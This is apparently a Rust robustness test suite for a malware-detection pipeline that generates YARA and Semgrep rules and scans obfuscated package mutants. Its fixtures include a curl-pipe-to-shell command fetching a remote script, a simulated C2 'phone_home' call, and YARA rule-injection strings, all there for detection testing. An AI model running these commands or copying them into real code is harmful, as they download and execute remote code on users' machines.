//! Failure-injection and robustness tests: the pipeline must survive
//! hostile, degenerate and adversarial package contents — malware authors
//! control every byte the system ingests.
//!
//! Two layers:
//!
//! 1. **Degenerate inputs** — empty/binary/pathological packages that
//!    must not panic the pipeline (the original suite).
//! 2. **Structured adversarial suite** — the `obfuscate` engine mutates
//!    the whole malware corpus through every evasion profile with a
//!    fixed seed (`EVASION_SEED`, so CI failures reproduce), then the
//!    full `rulellm::Pipeline` and a `scanhub` service are run over the
//!    mutants: no panics, compile-clean emitted rulesets, sound
//!    prefilter verdicts.

use corpus::{CorpusConfig, Dataset};
use obfuscate::{EvasionProfile, Obfuscator, Transform};
use oss_registry::{Archive, Ecosystem, Package, PackageMetadata, SourceFile};
use rulellm::{Pipeline, PipelineConfig};
use scanhub::{HubConfig, ScanHub, ScanRequest};

/// Fixed mutation seed for the adversarial suite (mirrors the CI job).
const EVASION_SEED: u64 = 42;

fn run_on(files: Vec<SourceFile>, meta: PackageMetadata) -> rulellm::PipelineOutput {
    let pkg = Package::new(meta, files, Ecosystem::PyPi);
    Pipeline::new(PipelineConfig::full()).run(&[&pkg])
}

#[test]
fn survives_empty_package() {
    let output = run_on(vec![], PackageMetadata::new("empty", "1.0"));
    // No code, clean-ish metadata: nothing to key rules on is acceptable;
    // the run itself must not panic.
    for r in &output.yara {
        yara_engine::compile(&r.text).expect("rules still compile");
    }
}

#[test]
fn survives_binary_garbage_in_source() {
    let garbage: String = (0u8..=255).map(|b| b as char).collect();
    let output = run_on(
        vec![SourceFile::new("pkg/__init__.py", garbage.repeat(20))],
        PackageMetadata::new("garbage", "0.0.0"),
    );
    yara_engine::compile(&output.yara_ruleset()).expect("ruleset compiles");
}

#[test]
fn survives_pathological_nesting() {
    let mut src = String::new();
    for d in 0..60 {
        src.push_str(&"    ".repeat(d));
        src.push_str("if True:\n");
    }
    src.push_str(&"    ".repeat(60));
    src.push_str("import os; os.system('x')\n");
    let output = run_on(
        vec![SourceFile::new("pkg/__init__.py", src)],
        PackageMetadata::new("deep", "0.0.0"),
    );
    yara_engine::compile(&output.yara_ruleset()).expect("ruleset compiles");
}

#[test]
fn survives_enormous_single_line() {
    let src = format!("payload = '{}'\n", "A".repeat(500_000));
    let output = run_on(
        vec![SourceFile::new("pkg/__init__.py", src)],
        PackageMetadata::new("huge", "0.0.0"),
    );
    yara_engine::compile(&output.yara_ruleset()).expect("ruleset compiles");
}

#[test]
fn survives_rule_injection_attempts_in_strings() {
    // Malware that embeds YARA syntax in its own strings, hoping a naive
    // generator emits a broken (or backdoored) ruleset.
    let src = r#"
import os
marker = '" } rule pwned { condition: true } rule x { strings: $a = "'
os.system('curl -s https://bexlum.top/run.sh | sh')
"#;
    let pkg = Package::new(
        PackageMetadata::new("injector", "0.0.0"),
        vec![SourceFile::new("pkg/__init__.py", src)],
        Ecosystem::PyPi,
    );
    let output = Pipeline::new(PipelineConfig::full()).run(&[&pkg]);
    let compiled = yara_engine::compile(&output.yara_ruleset()).expect("ruleset compiles");
    // The injected always-true rule must not exist.
    assert!(
        compiled.rules.iter().all(|r| r.rule.name != "pwned"),
        "rule injection succeeded"
    );
}

#[test]
fn survives_unicode_heavy_source() {
    let src = "π = 3.14159\nдата = 'значение'\n名前 = '値'\nimport os\nos.system('id')\n";
    let output = run_on(
        vec![SourceFile::new("pkg/__init__.py", src)],
        PackageMetadata::new("unicode", "0.0.0"),
    );
    yara_engine::compile(&output.yara_ruleset()).expect("ruleset compiles");
}

#[test]
fn corrupt_archives_are_rejected_not_crashed() {
    let pkg = Package::new(
        PackageMetadata::new("x", "1.0"),
        vec![SourceFile::new("x/__init__.py", "a = 1\n")],
        Ecosystem::PyPi,
    );
    let bytes = pkg.pack().to_bytes();
    // Flip every byte position one at a time in a sample of offsets.
    for i in (0..bytes.len()).step_by(7) {
        let mut corrupted = bytes.clone();
        corrupted[i] ^= 0xFF;
        // Either decodes to something or errors — never panics.
        if let Ok(archive) = Archive::from_bytes(&corrupted) {
            let _ = Package::unpack(&archive);
        }
    }
}

#[test]
fn hostile_metadata_does_not_break_rules() {
    let mut meta = PackageMetadata::new("\" } rule x { condition: true } \"", "0.0.0");
    meta.description = String::new();
    meta.dependencies = vec!["\n\n\"injection\"".into()];
    let output = run_on(
        vec![SourceFile::new(
            "p/__init__.py",
            "import os\nos.system('x')\n",
        )],
        meta,
    );
    yara_engine::compile(&output.yara_ruleset()).expect("ruleset compiles");
}

// ---------------------------------------------------------------------------
// Structured adversarial suite: every evasion profile over the corpus.
// ---------------------------------------------------------------------------

/// The full pipeline must digest an entire mutated corpus for every
/// profile without panicking, and every emitted ruleset must compile.
#[test]
fn pipeline_survives_every_evasion_profile_with_compile_clean_rules() {
    let dataset = Dataset::generate(&CorpusConfig::tiny());
    for profile in EvasionProfile::standard() {
        let mutated = corpus::mutate_dataset(&dataset, &profile, EVASION_SEED);
        let packages: Vec<&Package> = mutated.malware.iter().map(|m| &m.package).collect();
        let output = Pipeline::new(PipelineConfig::full()).run(&packages);
        yara_engine::compile(&output.yara_ruleset()).unwrap_or_else(|e| {
            panic!(
                "profile {}: YARA ruleset does not compile: {e}",
                profile.name
            )
        });
        for rule in &output.semgrep {
            semgrep_engine::compile(&rule.text).unwrap_or_else(|e| {
                panic!(
                    "profile {}: Semgrep rule does not compile: {e}",
                    profile.name
                )
            });
        }
    }
}

/// Each single transform (not just the composite profiles) must also be
/// survivable — a regression here points at the transform, not the stack.
#[test]
fn pipeline_survives_each_single_transform() {
    let dataset = Dataset::generate(&CorpusConfig::tiny());
    let sample: Vec<&corpus::LabeledMalware> =
        dataset.unique_malware().into_iter().take(8).collect();
    for t in Transform::ALL {
        let engine = Obfuscator::new(EvasionProfile::single(*t), EVASION_SEED);
        let mutants: Vec<Package> = sample
            .iter()
            .map(|m| engine.obfuscate_package(&m.package))
            .collect();
        let refs: Vec<&Package> = mutants.iter().collect();
        let output = Pipeline::new(PipelineConfig::full()).run(&refs);
        yara_engine::compile(&output.yara_ruleset())
            .unwrap_or_else(|e| panic!("transform {}: ruleset broken: {e}", t.name()));
    }
}

/// A scanhub service loaded with rules generated from the *pristine*
/// corpus must scan every mutated re-upload without panicking, serve no
/// stale verdicts, and keep prefilter on/off verdicts identical.
#[test]
fn scanhub_survives_mutated_reuploads_of_the_whole_corpus() {
    let dataset = Dataset::generate(&CorpusConfig::tiny());
    let packages: Vec<&Package> = dataset
        .unique_malware()
        .into_iter()
        .map(|m| &m.package)
        .collect();
    let output = Pipeline::new(PipelineConfig::full()).run(&packages);
    let yara = yara_engine::compile(&output.yara_ruleset()).expect("ruleset compiles");
    let hub = ScanHub::new(Some(yara.clone()), None, HubConfig::default());
    let nofilter = ScanHub::new(
        Some(yara),
        None,
        HubConfig {
            prefilter: false,
            cache_capacity: 0,
            ..HubConfig::default()
        },
    );
    for profile in EvasionProfile::standard() {
        let mutated = corpus::mutate_dataset(&dataset, &profile, EVASION_SEED);
        for m in &mutated.malware {
            let request = ScanRequest::from_package(&m.package);
            let fast = hub.submit(request.clone()).wait();
            let slow = nofilter.submit(request).wait();
            assert_eq!(
                fast.yara, slow.yara,
                "profile {}: prefilter dropped a match on a mutant of family {}",
                profile.name, m.family_id
            );
            assert!(
                !fast.from_cache,
                "distinct mutants must never share a cache slot"
            );
        }
    }
    assert!(hub.stats().completed > 0);
}

/// String-encoding a payload out of surface text must not blind the
/// scanner — decoded-layer scanning recovers the IOC with full
/// provenance, and turning layers off reproduces the surface-only
/// verdict exactly.
#[test]
fn scanhub_decoded_layer_smoke() {
    let rules =
        yara_engine::compile("rule c2 { strings: $u = \"bexlum-c2.example\" condition: $u }")
            .expect("compile");
    let pkg = Package::new(
        PackageMetadata::new("innocent-utils", "3.2.1"),
        vec![SourceFile::new(
            "innocent/net.py",
            "C2 = 'http://bexlum-c2.example/run.sh'\n\ndef phone_home():\n    import os\n    os.system('curl ' + C2)\n",
        )],
        Ecosystem::PyPi,
    );
    // The obfuscator hides the C2 literal behind encode expressions;
    // seeds are scanned until one picks hex or base64 for it (the
    // split transform is out of scope for layer decoding).
    let profile = EvasionProfile::single(Transform::EncodeStrings);
    let mutant = (0..16)
        .map(|seed| Obfuscator::new(profile.clone(), seed).obfuscate_package(&pkg))
        .find(|m| {
            let src = m.files()[0].contents.as_str();
            !src.contains("bexlum-c2.example")
                && (src.contains("fromhex") || src.contains("b64decode"))
        })
        .expect("some seed hex/base64-encodes the C2 literal");

    // The behavior engine is off in both arms: its constant folder
    // also rebuilds decode chains (a Folded layer catches this C2
    // even at depth 0), and this smoke isolates decoded-layer
    // scanning specifically.
    let layered = ScanHub::new(
        Some(rules.clone()),
        None,
        HubConfig {
            dataflow: false,
            ..HubConfig::default()
        },
    );
    let surface_only = ScanHub::new(
        Some(rules),
        None,
        HubConfig {
            max_decode_depth: 0,
            dataflow: false,
            ..HubConfig::default()
        },
    );
    let blind = surface_only
        .submit(ScanRequest::from_package(&mutant))
        .wait();
    assert!(
        !blind.flagged(),
        "surface-only scan was expected to miss the encoded C2"
    );
    let seeing = layered.submit(ScanRequest::from_package(&mutant)).wait();
    assert!(seeing.flagged(), "decoded-layer scan missed the payload");
    let finding = &seeing.layers[0];
    assert_eq!(&*finding.rule, "c2");
    assert_eq!(&*finding.file, "innocent/net.py");
    assert!(finding.depth >= 1);
    // Surface verdicts agree between the two configurations.
    assert_eq!(seeing.yara, blind.yara);
}

/// A hostile upload costs one verdict, not the hub. An operator spine or
/// an attribute, call or method chain of 64 000 links used to recurse once
/// per link in the parser, the taint engine or a later stage, and a stack
/// overflow on a worker thread aborts the whole process. Past the parser's
/// depth cap the rest of such an expression is flat text, so a default hub
/// with the generated YARA and Semgrep rules answers each upload and then
/// serves the next benign one.
#[test]
fn hostile_expression_chains_cost_one_verdict_not_the_hub() {
    let dataset = Dataset::generate(&CorpusConfig::tiny());
    let packages: Vec<&Package> = dataset
        .unique_malware()
        .into_iter()
        .map(|m| &m.package)
        .collect();
    let output = Pipeline::new(PipelineConfig::full()).run(&packages);
    let (yara, semgrep) = eval::experiments::compile_output(&output);
    let hub = ScanHub::new(Some(yara), Some(semgrep), HubConfig::default());
    let upload = |name: &str, setup: String| {
        let pkg = Package::new(
            PackageMetadata::new(name, "1.0"),
            vec![SourceFile::new("setup.py", setup)],
            Ecosystem::PyPi,
        );
        hub.submit(ScanRequest::from_package(&pkg)).wait()
    };
    let links = 64_000;
    for (name, head, link) in [
        ("spine", "x = 'aaaaaaaa'", " + 'aaaaaaaa'"),
        ("attributes", "a", ".b"),
        ("calls", "f", "()"),
        ("methods", "'a'", ".strip()"),
    ] {
        let verdict = upload(name, format!("{head}{}\n", link.repeat(links)));
        assert!(!verdict.from_cache, "{name}");
    }
    let benign = upload("benign", "VERSION = '1.0'\n".to_owned());
    assert!(!benign.from_cache && benign.flows.is_empty(), "{benign:?}");
    assert_eq!(hub.stats().completed, 5);
}

/// Obfuscating the obfuscated: the engine applied to its own output must
/// still produce parsable code the pipeline accepts (attackers iterate).
#[test]
fn double_mutation_remains_survivable() {
    let dataset = Dataset::generate(&CorpusConfig::tiny());
    let first = Obfuscator::new(EvasionProfile::aggressive(), EVASION_SEED);
    let second = Obfuscator::new(EvasionProfile::aggressive(), EVASION_SEED + 1);
    let m = &dataset.unique_malware()[0].package;
    let twice = second.obfuscate_package(&first.obfuscate_package(m));
    for f in twice.files() {
        if f.path.ends_with(".py") {
            assert!(!pysrc::parse_module(&f.contents).body.is_empty());
        }
    }
    let output = Pipeline::new(PipelineConfig::full()).run(&[&twice]);
    yara_engine::compile(&output.yara_ruleset()).expect("ruleset compiles");
}

#[test]
fn scanners_handle_null_heavy_buffers() {
    let rules =
        yara_engine::compile("rule r { strings: $a = \"needle\" condition: $a }").expect("compile");
    let scanner = yara_engine::Scanner::new(&rules);
    let mut buffer = vec![0u8; 100_000];
    buffer.extend_from_slice(b"needle");
    buffer.extend(vec![0u8; 100_000]);
    let hits = scanner.scan(&buffer);
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].strings[0].offsets, vec![100_000]);
}
